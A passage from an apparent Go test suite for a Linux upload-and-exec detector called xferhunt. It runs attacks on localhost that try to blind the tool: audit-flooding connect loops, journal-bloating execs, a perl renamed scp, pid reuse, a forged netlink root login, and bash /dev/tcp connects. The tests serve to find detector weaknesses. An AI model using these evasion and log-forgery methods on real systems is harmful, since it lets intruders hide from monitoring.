s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
t0 = time.time()
for i in range(n):
    s.connect(("127.0.0.1", 1024 + i % 20000))
    if rate > 0 and i % 500 == 499:
        ahead = (i + 1) / rate - (time.time() - t0)
        if ahead > 0:
            time.sleep(ahead)
d = time.time() - t0
print("connects %d in %.3f s (%.0f/s)" % (n, d, n / d))
`

// TestAttackStoryFlood: after a victim's login uploads and chmods a file,
// another logged-in user makes 240,000 UDP connects
// (10,000 a second, which the kernel mostly keeps up with) — and then the same
// flood as fast as one process can. The defender needs the victim's story
// to survive, or to be told it was evicted (live status, `xferhunt story`),
// and an upload made during the flood to alert.
func TestAttackStoryFlood(t *testing.T) {
	slowAttack(t)
	const port = 22273
	const fromA, fromB = "127.0.0.45", "127.0.0.46"
	dir, us := attackHost(t, port, "xferhunt-attack-flood-", []string{"xfatk-fv", "xfatk-fa"})
	victim, attacker := us[0], us[1]
	flood := writeScript(t, dir, "flood.py", pacedFlood)
	bugs := &attackBugs{t: t}

	// The flood's cost without xferhunt (no audit rules of ours).
	out, err := sshRun(attacker, port, fromB, "python3 "+flood+" 300000 0", 120*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("without xferhunt: %s", strings.TrimSpace(out))

	x, state := startNetlinkHeadless(t, "--rule", "seed", "--rule", "upload-exec")

	f0 := filepath.Join(dir, "f0")
	if l := waitChain(x, f0, uploadAndChmod(t, victim, port, fromA, f0), 30*time.Second); l < 0 {
		t.Fatalf("no made_executable alert for %s", f0)
	}
	ses0 := ""
	if o, _, code := storyOut("--file", f0); code >= 0 {
		_ = o // the state is held by the live run; the session comes from the alert
	}
	for _, a := range x.Alerts() {
		if a.Doc.Str("xferhunt.chain.upload.path") == f0 {
			ses0 = fmt.Sprint(a.Doc.Get("xferhunt.session.id"))
		}
	}
	t0, _ := procStat(x.PID())
	start := time.Now()
	out, err = sshRun(attacker, port, fromB, "python3 "+flood+" 240000 10000", 120*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("paced flood with xferhunt: %s", strings.TrimSpace(out))
	// Let the run catch up and commit its journal, then look at its status.
	f1 := filepath.Join(dir, "f1")
	l1 := waitChain(x, f1, uploadAndChmod(t, victim, port, fromA, f1), 120*time.Second)
	t1, hwm1 := procStat(x.PID())
	t.Logf("paced flood: upload after it → alert %v; xferhunt CPU %.1f s over %v, peak RSS %d MiB",
		l1, float64(t1-t0)/100, time.Since(start).Round(time.Second), hwm1>>10)
	n := len(x.stderr)
	x.waitUntil(func() bool { return len(x.stderr) > n && strings.HasPrefix(x.stderr[len(x.stderr)-1], "status:") }, 15*time.Second)
	t.Logf("status after the paced flood: %s", x.lastStatus())

	// The fast flood, with an upload in the middle of it.
	floodDone := make(chan string, 1)
	go func() {
		out, err := sshRun(attacker, port, fromB, "python3 "+flood+" 600000 0", 300*time.Second)
		if err != nil {
			out += err.Error()
		}
		floodDone <- out
	}()
	time.Sleep(1500 * time.Millisecond)
	f2 := filepath.Join(dir, "f2")
	done2 := uploadAndChmod(t, victim, port, fromA, f2)
	t.Logf("fast flood with xferhunt: %s", strings.TrimSpace(<-floodDone))
	l2 := waitChain(x, f2, done2, 120*time.Second)
	t2, hwm2 := procStat(x.PID())
	time.Sleep(12 * time.Second) // one more status line
	status := x.lastStatus()
	x.stop(60 * time.Second)
	final := x.finalStatus()
	t.Logf("fast flood: upload during it → alert %v; xferhunt CPU %.1f s, peak RSS %d MiB; final status %+v", l2, float64(t2-t1)/100, hwm2>>10, final)
	t.Logf("last periodic status: %s", status)
	if l2 < 0 {
		lost := int64(0)
		for _, s := range final.Sources {
			lost += s.Lost
		}
		bugs.add("one logged-in user's connect flood (which the session rules record; narrow rules alone record none) hid another user's upload: no alert within 120 s; kernel lost %d records", lost)
	}
	if !strings.Contains(status, "evicted") && !strings.Contains(status, "story") {
		bugs.add("the live status line says nothing of the story store's evictions (nor of journal drops): %q", status)
	}

	// The victim's first session, told from the state after the run.
	o, e, code := storyOut("--state", state, "--session", ses0)
	t.Logf("story --session %s: exit %d, %d bytes; stderr: %s", ses0, code, len(o), strings.TrimSpace(string(e)))
	o2, e2, code2 := storyOut("--state", state, "--session", ses0, "--story-budget", "1GiB")
	t.Logf("story --session %s --story-budget 1GiB: exit %d, %d bytes; stderr: %s", ses0, code2, len(o2), strings.TrimSpace(string(e2)))
	if code2 != 0 && !strings.Contains(string(e2), "journal") && !strings.Contains(string(e2), "retention") {
		bugs.add("another user's flood erased session %s's story (upload + chmod) from the state: `xferhunt story` says %q and, with --story-budget 1GiB, %q: the journal's retention (200,000 newest events) dropped it without a word",
			ses0, strings.TrimSpace(string(e)), strings.TrimSpace(string(e2)))
	}
	if st, err := os.Stat(filepath.Join(state, "state.db")); err == nil {
		t.Logf("state.db: %d MiB", st.Size()>>20)
	}
	bugs.report()
}

// bigArgv runs /bin/true with COUNT arguments of SIZE '<' each, WORKERS
// at a time (posix_spawn: one vfork each), until EXECS have run, SECS have
// passed or a file named like the script with ".stop" appears; it prints
// how many ran. The kernel logs '<' as it is; JSON (the state journal)
// writes it as \u003c, six bytes; 1 × 8,183 is what a story keeps of an
// exec's arguments since 695ffaf (8 KiB with "/bin/true").
const bigArgv = `import os, sys, time
secs, count, size, execs, workers = float(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
args = ["/bin/true"] + ["<" * size] * count
t, n, running = time.time(), 0, 0
stop = sys.argv[0] + ".stop"
while n < execs and time.time() - t < secs and not os.path.exists(stop):
    while running < workers and n < execs:
        os.posix_spawn("/bin/true", args, os.environ)
        running += 1
        n += 1
    os.wait()
    running -= 1
while running > 0:
    os.wait()
    running -= 1
print("execs %d in %.1f s" % (n, time.time() - t))
`

// TestAttackJournalHugeArgv: a logged-in user runs execs with 8 KiB of
// '<' as argument, 4,000 of them (before 695ffaf: 1.9 MiB, kept whole).
// JSON writes '<' in six bytes, so each story event is ~49 KB: by count
// alone (200,000) the journal would grow to 10 GiB; it is bounded by bytes
// too (128 MiB of events). An event over 1 MiB is not read back at
// restart. The defender needs state.db and xferhunt's memory to stay
// bounded whatever one user runs.
func TestAttackJournalHugeArgv(t *testing.T) {
	slowAttack(t)
	const port = 22274
	const from = "127.0.0.47"
	dir, us := attackHost(t, port, "xferhunt-attack-journal-", []string{"xfatk-ja"})
	attacker := us[0]
	script := writeScript(t, dir, "big.py", bigArgv)
	x, state := startNetlinkHeadless(t, "--rule", "seed", "--rule", "upload-exec")
	db := filepath.Join(state, "state.db")
	size := func() int64 {
		st, err := os.Stat(db)
		if err != nil {
			return 0
		}
		return st.Size()
	}
	size0 := size()
	done := make(chan string, 1)
	go func() {
		out, err := sshRun(attacker, port, from, "python3 "+script+" 180 1 8183 4000 4", 240*time.Second)
		if err != nil {
			out += err.Error()
		}
		done <- out
	}()
	// Stop early rather than fill this machine's disk.
	const diskCap = 8 << 30
	var out string
	start := time.Now()
	var samples []string
	for out == "" {
		select {
		case out = <-done:
		case <-time.After(time.Second):
			_, hwm := procStat(x.PID())
			samples = append(samples, fmt.Sprintf("%.0fs: state.db %d MiB, peak RSS %d MiB", time.Since(start).Seconds(), size()>>20, hwm>>10))
			if size() > diskCap {
				t.Logf("state.db passed %d GiB: stopping the attack", diskCap>>30)
				_ = os.WriteFile(script+".stop", nil, 0o644)
			}
		}
	}
	t.Logf("attacker: %s", strings.TrimSpace(out))
	// One exec padded to more than 1 MiB once encoded (before 695ffaf:
	// journaled, but refused when the state was read back, story.MaxEncoded),
	// made last so that the journal's byte bound keeps it.
	if _, err := sshRun(attacker, port, from, `python3 -c 'import subprocess; subprocess.run(["/bin/echo", "HIDE-ME"] + ["<" * 100000] * 2, stdout=subprocess.DEVNULL)'`, 30*time.Second); err != nil {
		t.Fatal(err)
	}
	// Let detection and the journal catch up: wait until state.db stops growing.
	for last := int64(-1); size() != last; time.Sleep(3 * time.Second) {
		last = size()
		_, hwm := procStat(x.PID())
		samples = append(samples, fmt.Sprintf("%.0fs: state.db %d MiB, peak RSS %d MiB", time.Since(start).Seconds(), size()>>20, hwm>>10))
	}
	ticks, hwm := procStat(x.PID())
	// What stays: the resident size after 30 quiet seconds (the Go runtime
	// returns freed memory to the system within that).
	time.Sleep(30 * time.Second)
	t.Logf("resident 30 s after the attack: %d MiB", vmRSS(x.PID())>>10)
	x.stop(120 * time.Second)
	t.Logf("samples:\n  %s", strings.Join(samples, "\n  "))
	grown := size() - size0
	t.Logf("state.db grew %d MiB; xferhunt peak RSS %d MiB, CPU %.1f s; final status %+v", grown>>20, hwm>>10, float64(ticks)/100, x.finalStatus())
	execs := 0
	fmt.Sscanf(strings.TrimSpace(out), "execs %d", &execs)
	if execs > 0 {
		t.Logf("%d bytes of state.db per exec over %d execs", grown/int64(execs), execs)
	}

	o, e, code := storyOut("--state", state, "--user", attacker.Name)
	t.Logf("story --user after restart: exit %d; stderr: %s", code, strings.TrimSpace(string(e)))

	bugs := &attackBugs{t: t}
	_ = o
	nd, _, _ := storyOut("--state", state, "--user", attacker.Name, "--format", "ndjson")
	hidden, kept := true, 0
	for _, d := range ndjsonDocs(t, nd) {
		if d.Str("event.action") == "exec" && d.Str("process.name") == "echo" {
			hidden = false
		}
		if d.Str("event.action") == "exec" && d.Str("process.name") == "true" {
			kept++
		}
	}
	// 4,000 events of ~49 KB are 196 MB; the journal keeps 128 MiB of
	// them, about 2,700.
	t.Logf("the journal kept %d of %d big execs", kept, execs)
	if execs < 4000 {
		t.Fatalf("the attack ran %d execs of 4,000: the byte bound was not reached", execs)
	}
	if kept < 2000 || kept > 3000 {
		bugs.add("the journal kept %d of 4,000 execs of ~49 KB, not the ~2,700 of its 128 MiB bound", kept)
	}
	if hidden {
		bugs.add("an exec padded with 200 kB of '<' (1.2 MB as JSON) is journaled but refused when the state is read (story.MaxEncoded 1 MiB): the story after a restart lacks it; stderr says only %q", strings.TrimSpace(string(e)))
	}
	// The events journal keeps 128 MiB; bbolt grows its file in 16 MiB
	// steps and reuses freed pages a commit later.
	if grown > 192<<20 {
		bugs.add("4,000 of one user's execs with 8 KiB of '<' (what a story keeps) grew state.db by %d MiB, beyond the events journal's 128 MiB bound", grown>>20)
	}
	if hwm > 1<<20 {
		bugs.add("xferhunt's peak RSS reached %d MiB under one user's big-argv execs (--story-budget 64MiB)", hwm>>10)
	}
	bugs.report()
}

// fakeSCP is perl copied to a file named scp: every file it creates is,
// to the upload-exec chain, an upload (process.name scp). It creates N
// files at about 8,000 a second (the kernel keeps up), then chmods M of them 0755 (from
// number FROM+1 on), 2,000 a second.
const fakeSCP = `my ($dir, $n, $m, $from) = @ARGV;
use Time::HiRes qw(time sleep);
my $t = time;
for my $i (1..$n) {
	open(my $f, ">", "$dir/f$i") or die "create: $!"; close $f;
	if ($i % 500 == 0) { my $ahead = $i / 8000 - (time - $t); sleep($ahead) if $ahead > 0 }
}
printf "created %d in %.1f s\n", $n, time - $t;
$t = time;
for my $i (1..$m) {
	chmod 0755, "$dir/f" . ($from + $i) or die "chmod: $!";
	if ($i % 1000 == 0) { my $ahead = $i / 2000 - (time - $t); sleep($ahead) if $ahead > 0 }
}
printf "chmod %d in %.1f s\n", $m, time - $t;
`

// TestAttackChainEviction: the chain follows the newest 65,536 uploads,
// and an upload is whatever a process named like a transfer program
// creates. A logged-in user copies perl to a file named scp and creates
// 100,000 files with it: the victim's real upload, made before, is no
// longer followed, and its execution raises nothing. The same user then
// chmods 10,500 of the newest of those files: 10,500 "Remote upload executed" alerts,
// which push the real upload's seed alert out of the state's alert
// journal (the newest 10,000).
func TestAttackChainEviction(t *testing.T) {
	slowAttack(t)
	const port = 22275
	const fromA, fromB = "127.0.0.48", "127.0.0.49"
	r := newChainRig(t, port, "xfatk-cv", "xfatk-ca", "xferhunt-attack-chain-")
	victim, attacker, dir, ops, fake, fakeDir, stateDir, x := r.victim, r.attacker, r.dir, r.ops, r.fake, r.fakeDir, r.stateDir, r.x
	bugs := &attackBugs{t: t}

	// A control upload, run with nothing in between.
	ctl, real := filepath.Join(dir, "control"), filepath.Join(dir, "real")
	src := writePayload(t, "#!/bin/sh\necho ran > $0.ran\n")
	batch := filepath.Join(t.TempDir(), "batch")
	if err := os.WriteFile(batch, []byte(fmt.Sprintf("put %s %s\nput %s %s\n", src, ctl, src, real)), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := sftpBatch(victim, port, fromA, batch); err != nil {
		t.Fatal(err)
	}
	seedAlert, ok := x.waitAlert(ctl, 10*time.Second)
	if !ok {
		t.Fatalf("no seed alert for the upload of %s", ctl)
	}
	run := func(path string) {
		t.Helper()
		cmd := fmt.Sprintf("cd %s && OP=chmod A=%s python3 %s && ./%s", dir, filepath.Base(path), ops, filepath.Base(path))
		if out, err := sshRun(victim, port, fromA, cmd, 30*time.Second); err != nil {
			t.Fatalf("%v %s", err, out)
		}
	}
	run(ctl)
	if !x.waitCount(func(a alert) bool { return a.Doc.Str("xferhunt.chain.upload.path") == ctl }, 2, 10*time.Second) {
		t.Fatalf("control: want made_executable and executed for %s:%s", ctl, describe(x.Alerts()))
	}

	// The attacker's fake uploads, then the victim's upload runs.
	cp := r.perlAsSCP(t)
	out, err := sshRun(attacker, port, fromB, fmt.Sprintf("%s %s %s 100000 0 0", cp, fake, fakeDir), 120*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("attacker (perl named scp): %s; %s", strings.TrimSpace(out), x.lastStatus())
	run(real)
	endMark := filepath.Join(dir, "end")
	if err := os.WriteFile(endMark+".src", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	// An upload after it all: its alert says detection caught up.
	batch2 := filepath.Join(t.TempDir(), "batch2")
	if err := os.WriteFile(batch2, []byte(fmt.Sprintf("put %s %s\nchmod 755 %s\n", src, endMark, endMark)), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := sftpBatch(victim, port, fromA, batch2); err != nil {
		t.Fatal(err)
	}
	if waitChain(x, endMark, time.Now(), 120*time.Second) < 0 {
		t.Fatalf("no alert for the end marker upload %s", endMark)
	}
	var got []string
	for _, a := range chainAlerts(x) {
		if a.Doc.Str("xferhunt.chain.upload.path") == real {
			got = append(got, a.Doc.Str("xferhunt.chain.trigger"))
		}
	}
	fakeAlerts := 0
	for _, a := range x.Alerts() {
		if strings.HasPrefix(a.Doc.Str("file.path"), fakeDir) || strings.HasPrefix(a.Doc.Str("xferhunt.chain.upload.path"), fakeDir) {
			fakeAlerts++
		}
	}
	t.Logf("after 100,000 fake uploads: alerts for %s: %v; alerts on the fake uploads: %d", real, got, fakeAlerts)
	if len(got) < 2 {
		bugs.add("100,000 files created by a perl named scp (a logged-in user, %s) evicted a real upload from the chain: its chmod and exec raised %v", strings.TrimSpace(out), got)
	}

	// Alert flood: 10,500 made_executable alerts on fake uploads.
	out, err = sshRun(attacker, port, fromB, fmt.Sprintf("%s %s %s 0 10500 89500", cp, fake, fakeDir), 120*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("attacker: %s", strings.TrimSpace(out))
	n := x.waitCount(func(a alert) bool {
		return strings.HasPrefix(a.Doc.Str("xferhunt.chain.upload.path"), fakeDir)
	}, 10000, 30*time.Second) // since 695ffaf max_signals stops it at 100 per 5 minutes
	flood := 0
	for _, a := range chainAlerts(x) {
		if strings.HasPrefix(a.Doc.Str("xferhunt.chain.upload.path"), fakeDir) {
			flood++
		}
	}
	time.Sleep(2 * time.Second)
	x.stop(60 * time.Second)
	t.Logf("alert flood: %d high-severity Remote upload executed alerts on the fake uploads (reached 10,000: %v)", flood, n)
	if flood > 100 {
		bugs.add("a logged-in user raised %d high-severity \"Remote upload executed\" alerts in seconds with a perl named scp (no rate limit, no max_signals on the chain rule)", flood)
	}
	// Is the victim's seed alert still in the state?
	st, err := state.Open(stateDir)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	kept := false
	nAlerts := 0
	id := seedAlert.Doc.Str("kibana.alert.uuid")
	if err := st.Records(state.JournalAlerts, func(b []byte) error {
		nAlerts++
		if bytes.Contains(b, []byte(id)) {
			kept = true
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	t.Logf("state: %d alerts journaled; the victim's seed alert %s kept: %v", nAlerts, id, kept)
	if !kept {
		bugs.add("the real upload's seed alert is gone from the state's alert journal (a restart shows %d alerts, all newer): the attacker's alert flood pushed it out", nAlerts)
	}
	bugs.report()
}

// pidCycler forks until the kernel's next pid is TARGET, then runs a
// command in a child holding that pid: a process of another user with the
// pid of the victim's process, which has exited. pid_max is 32768 here.
const pidCycler = `import os, sys
target, marker = int(sys.argv[1]), sys.argv[2]
for attempt in range(5):
    while True:
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        if pid == target - 1 or (target == 300 and pid == 32767):
            break
    pid = os.fork()
    if pid == 0:
        if os.getpid() == target:
            os.execv("/bin/sh", ["sh", "-c", "echo injected > " + marker + "; /bin/true pid-reused"])
        os._exit(3)
    _, st = os.waitpid(pid, 0)
    if pid == target:
        print("got pid %d on attempt %d" % (pid, attempt + 1))
        sys.exit(0)
sys.exit("pid %d not obtained" % target)
`

// TestAttackStoryPIDReuse: a victim's login runs a process that exits;
// another logged-in user cycles pids until a process of his holds the same
// pid and has it exec and create a file. The defender asking for the
// process tree of the victim's pid (`xferhunt story --pid`) needs the
// victim's process, not the attacker's (story.Store.tree admits every event
// of the root pid, before or after, from any session).
func TestAttackStoryPIDReuse(t *testing.T) {
	slowAttack(t)
	const port = 22276
	const fromA, fromB = "127.0.0.50", "127.0.0.51"
	dir, us := attackHost(t, port, "xferhunt-attack-pid-", []string{"xfatk-pv", "xfatk-pa"})
	victim, attacker := us[0], us[1]
	cycler := writeScript(t, dir, "cycle.py", pidCycler)
	x, stateDir := startNetlinkHeadless(t, "--rule", "seed")

	// The victim: a shell that runs one command and creates a file.
	out, err := sshRun(victim, port, fromA, fmt.Sprintf("sh -c 'echo $$; touch %s/victim-file'", dir), 30*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	pid, err := strconv.Atoi(strings.TrimSpace(out))
	if err != nil {
		t.Fatalf("victim pid %q: %v", out, err)
	}
	marker := filepath.Join(dir, "injected")
	start := time.Now()
	out, err = sshRun(attacker, port, fromB, fmt.Sprintf("python3 %s %d %s", cycler, pid, marker), 300*time.Second)
	if err != nil {
		testenv.Need(t, false, "could not take pid %d: %v", pid, err)
	}
	t.Logf("attacker: %s (%v)", strings.TrimSpace(out), time.Since(start).Round(100*time.Millisecond))
	testenv.WaitFor(t, func() bool { _, err := os.Stat(marker); return err == nil }, 5*time.Second, "the injected file")
	time.Sleep(3 * time.Second) // detection and the journal's commit
	x.stop(10 * time.Second)

	o, e, code := storyOut("--state", stateDir, "--pid", strconv.Itoa(pid))
	if code != 0 {
		t.Fatalf("story --pid %d: exit %d: %s", pid, code, e)
	}
	t.Logf("story --pid %d:\n%s", pid, o)
	docs := ndjsonDocs(t, func() []byte {
		o, _, _ := storyOut("--state", stateDir, "--pid", strconv.Itoa(pid), "--format", "ndjson")
		return o
	}())
	var foreign []string
	for _, d := range docs {
		if u := d.Str("user.name"); u == attacker.Name {
			foreign = append(foreign, d.Str("event.action")+" "+d.Str("file.path")+" by "+d.Str("process.name"))
		}
	}
	bugs := &attackBugs{t: t}
	if len(foreign) > 0 {
		bugs.add("the process tree of the victim's pid %d holds %d events of another user's process that took the pid after it exited: %v", pid, len(foreign), foreign)
	}
	bugs.report()
}

// forgeLogin tries, as an unprivileged user, to put a login into the
// audit stream: an AUDIT_USER_START (1105) message of its own, and the
// login uid of its own process. It prints what the kernel said.
const forgeLogin = `import os, socket, struct, sys
msg = b"op=PAM:session_open grantors=pam_unix acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=10.6.6.6 addr=10.6.6.6 terminal=ssh res=success\x00"
def send():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9)  # NETLINK_AUDIT
    s.bind((0, 0))
    hdr = struct.pack("=IHHII", 16 + len(msg), 1105, 5, 1, 0)  # NLM_F_REQUEST|NLM_F_ACK
    s.send(hdr + msg)
    r = s.recv(65536)
    ln, typ, flags, seq, pid, err = struct.unpack("=IHHIIi", r[:20])
    return "nlmsg type %d error %d" % (typ, err)
try:
    print("user_start:", send())
except OSError as e:
    print("user_start:", e)
try:
    fd = os.open("/proc/self/loginuid", os.O_WRONLY)
    os.write(fd, b"0")
    print("loginuid: written")
except OSError as e:
    print("loginuid:", e)
`

// TestAttackForgeLogin: a logged-in user tries to make a story lie about
// logins: an AUDIT_USER_START message claiming a root login from
// 10.6.6.6 (as himself, and as root of a user namespace of his), a change
// of his login uid, and a process of his own named sshd. Held: no login
// from 10.6.6.6 is told, the story of his address holds the sshd-named
// process's events as his, and nothing of his lands outside his session.
func TestAttackForgeLogin(t *testing.T) {
	const port = 22277
	const from = "127.0.0.52"
	dir, us := attackHost(t, port, "xferhunt-attack-login-", []string{"xfatk-fl"}, "/usr/bin/unshare")
	attacker := us[0]
	forge := writeScript(t, dir, "forge.py", forgeLogin)
	fakeSSHD := filepath.Join(dir, "sshd")
	if b, err := os.ReadFile("/usr/bin/touch"); err != nil {
		t.Fatal(err)
	} else if err := os.WriteFile(fakeSSHD, b, 0o755); err != nil {
		t.Fatal(err)
	}
	x, stateDir := startNetlinkHeadless(t, "--rule", "seed", "--rule", "upload-exec")
	planted := filepath.Join(dir, "by-fake-sshd")
	renamed := filepath.Join(dir, "by-perl-named-sftp-server")
	cmd := fmt.Sprintf("python3 %s; unshare -Ur python3 %s; %s %s; perl -e '$0 = \"sftp-server\"; open(F, \">\", \"%s\")'; echo done",
		forge, forge, fakeSSHD, planted, renamed)
	out, err := sshRun(attacker, port, from, cmd, 30*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("attacker:\n%s", out)
	time.Sleep(3 * time.Second)
	x.stop(10 * time.Second)

	if _, e, code := storyOut("--state", stateDir, "--ip", "10.6.6.6"); code != 2 {
		t.Errorf("story --ip 10.6.6.6: exit %d, want 2 (no such login): %s", code, e)
	}
	nd, _, code := storyOut("--state", stateDir, "--ip", from, "--format", "ndjson")
	if code != 0 {
		t.Fatalf("story --ip %s: exit %d", from, code)
	}
	logins, fakeSeen := 0, false
	for _, d := range ndjsonDocs(t, nd) {
		if d.Str("event.action") == "log_on" {
			logins++
			if d.Str("user.name") != attacker.Name {
				t.Errorf("a login of %q in the story of %s", d.Str("user.name"), from)
			}
		}
		if d.Str("file.path") == planted && d.Str("process.name") == "sshd" {
			fakeSeen = true
			if d.Str("user.name") != attacker.Name {
				t.Errorf("the sshd-named process's creation is told as user %q", d.Str("user.name"))
			}
		}
	}
	if logins != 1 {
		t.Errorf("%d logins in the story of %s, want 1", logins, from)
	}
	if !fakeSeen {
		t.Errorf("the creation by the attacker's process named sshd is not in the story of his address")
	}
	if !strings.Contains(out, "user_start:") || strings.Contains(out, "error 0\n") || strings.Contains(out, "loginuid: written") {
		t.Errorf("the kernel accepted a forged login from an unprivileged user:\n%s", out)
	}
	// A process that renames itself (prctl, perl's $0) to sftp-server:
	// the story's PROCESS column is the name it chose.
	text, _, _ := storyOut("--state", stateDir, "--ip", from)
	line := ""
	for _, l := range strings.Split(string(text), "\n") {
		if strings.Contains(l, " create ") && strings.HasSuffix(l, "by-perl-named-sftp-server") {
			line = l
		}
	}
	if line == "" {
		t.Errorf("the renamed perl's creation is not in the story")
	}
	t.Logf("the renamed perl's creation: %q", line)
	if line != "" && !strings.Contains(strings.TrimSuffix(line, renamed), "perl") {
		bugs := &attackBugs{t: t}
		bugs.add("a perl that set its name to sftp-server (prctl) creates a file and the story shows %q: the PROCESS column is the comm alone, the executable (/usr/bin/perl) is not shown; the seed rule alerted on it (process.name sftp-server, as Elastic's rule reads it) and the same name makes the file an upload to the chain", strings.Join(strings.Fields(line), " "))
		bugs.report()
	}
}

// TestAttackStoryConnectsUnseen: the session rules record successful
// connects only (-F success=1); a non-blocking connect returns
// EINPROGRESS, a failure to audit. A logged-in user reaches a listener
// with curl, wget, a blocking Python connect, a non-blocking one and
// bash's /dev/tcp. The defender needs each connection in the story.
func TestAttackStoryConnectsUnseen(t *testing.T) {
	lockAuditAlone(t)
	testenv.NeedBinary(t, "/usr/bin/ssh")
	testenv.NeedBinary(t, "/usr/bin/python3")
	testenv.NeedBinary(t, "/usr/bin/curl")
	testenv.NeedBinary(t, "/usr/bin/wget")
	const port, httpPort = 22278, 22279
	const from = "127.0.0.53"
	u := testenv.CreateUser(t, "xfatk-cn")
	testenv.StartSSHD(t, port)
	ln, err := netListen(fmt.Sprintf("127.0.0.1:%d", httpPort))
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	x, stateDir := startNetlinkHeadless(t, "--rule", "seed")
	clients := []struct{ name, cmd string }{
		{"curl", fmt.Sprintf("curl -s -o /dev/null http://127.0.0.1:%d/curl", httpPort)},
		{"wget", fmt.Sprintf("wget -q -O /dev/null http://127.0.0.1:%d/wget", httpPort)},
		{"python3", fmt.Sprintf(`python3 -c 'import socket; socket.create_connection(("127.0.0.1", %d)).close()'`, httpPort)},
		{"python3-nb", fmt.Sprintf(`python3 -c 'import socket, select; s = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", %d)); select.select([], [s], [], 5); s.close()'`, httpPort)},
		{"bash", fmt.Sprintf("bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", httpPort)},
	}
	var script strings.Builder
	for _, c := range clients {
		fmt.Fprintf(&script, "%s; echo %s rc=$?; sleep 0.2\n", c.cmd, c.name)
	}
	out, err := sshRun(u, port, from, script.String(), 60*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("clients:\n%s", out)
	time.Sleep(3 * time.Second)
	x.stop(10 * time.Second)
	nd, e, code := storyOut("--state", stateDir, "--ip", from, "--format", "ndjson")
	if code != 0 {
		t.Fatalf("story: exit %d: %s", code, e)
	}
	seen := map[string]bool{}
	for _, d := range ndjsonDocs(t, nd) {
		if d.Str("event.action") == "connection_attempted" && fmt.Sprint(d.Get("destination.port")) == strconv.Itoa(httpPort) {
			seen[d.Str("process.name")] = true
		}
	}
	t.Logf("connects to :%d in the story, by process: %v; listener accepted %d", httpPort, seen, ln.accepted())
	bugs := &attackBugs{t: t}
	var missing []string
	for _, c := range clients {
		name := strings.TrimSuffix(c.name, "-nb")
		if c.name == "python3-nb" {
			// Both Python clients are named python3: count them.
			n := 0
			for _, d := range ndjsonDocs(t, nd) {
				if d.Str("event.action") == "connection_attempted" && d.Str("process.name") == "python3" && fmt.Sprint(d.Get("destination.port")) == strconv.Itoa(httpPort) {
					n++
				}
			}
			if n < 2 {
				missing = append(missing, c.name)
			}
			continue
		}
		if !seen[name] {
			missing = append(missing, c.name)
		}
	}
	if len(missing) > 0 {
		bugs.add("connections of %v are missing from the story (the session rules keep successful connects only; a non-blocking connect returns EINPROGRESS): an exfiltration with curl leaves no connect in the story", missing)
	}
	bugs.report()
}

// countingListener accepts connections, answers an HTTP 200 and counts.
type countingListener struct {
	ln net.Listener
	n  atomic.Int64
}

func netListen(addr string) (*countingListener, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	c := &countingListener{ln: ln}
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			c.n.Add(1)
			go func() {
				defer conn.Close()
				_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
				buf := make([]byte, 4096)
				_, _ = conn.Read(buf)
				_, _ = conn.Write([]byte("HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok"))
			}()
		}
	}()
	return c, nil
}

func (c *countingListener) accepted() int64 { return c.n.Load() }
func (c *countingListener) Close() error    { return c.ln.Close() }

// TestAttackFloodBlindsUploads: the session rules make every connect of a
// logged-in user an audit record, so one user with a loop of UDP connects
// can outrun kernel audit for the whole host (the narrow rules alone
// record none of it). While he does, another user makes ten uploads, each
// made executable; the defender needs an alert for each.
func TestAttackFloodBlindsUploads(t *testing.T) {
	slowAttack(t)
	const port = 22273
	const fromA, fromB = "127.0.0.54", "127.0.0.55"
	dir, us := attackHost(t, port, "xferhunt-attack-blind-", []string{"xfatk-bv", "xfatk-ba"})
	victim, attacker := us[0], us[1]
	flood := writeScript(t, dir, "flood.py", pacedFlood)
	x, _ := startNetlinkHeadless(t, "--rule", "seed", "--rule", "upload-exec")
	if waitChain(x, filepath.Join(dir, "before"), uploadAndChmod(t, victim, port, fromA, filepath.Join(dir, "before")), 30*time.Second) < 0 {
		t.Fatal("no alert for the upload before the flood")
	}
	floodDone := make(chan string, 1)
	go func() {
		out, err := sshRun(attacker, port, fromB, "python3 "+flood+" 1500000 0", 300*time.Second)
		if err != nil {
			out += err.Error()
		}
		floodDone <- out
	}()
	time.Sleep(time.Second)
	var uploads []string
	for i := 0; i < 10; i++ {
		p := filepath.Join(dir, fmt.Sprintf("during-%d", i))
		uploadAndChmod(t, victim, port, fromA, p)
		uploads = append(uploads, p)
		time.Sleep(500 * time.Millisecond)
	}
	t.Logf("attacker: %s", strings.TrimSpace(<-floodDone))
	after := filepath.Join(dir, "after")
	if waitChain(x, after, uploadAndChmod(t, victim, port, fromA, after), 120*time.Second) < 0 {
		t.Errorf("no alert for the upload after the flood")
	}
	alerted := 0
	for _, p := range uploads {
		if waitChain(x, p, time.Now(), time.Second) >= 0 {
			alerted++
		}
	}
	x.stop(30 * time.Second)
	st := x.finalStatus()
	t.Logf("uploads during the flood that alerted: %d of %d; final status %+v", alerted, len(uploads), st.Sources)
	if alerted < len(uploads) {
		bugs := &attackBugs{t: t}
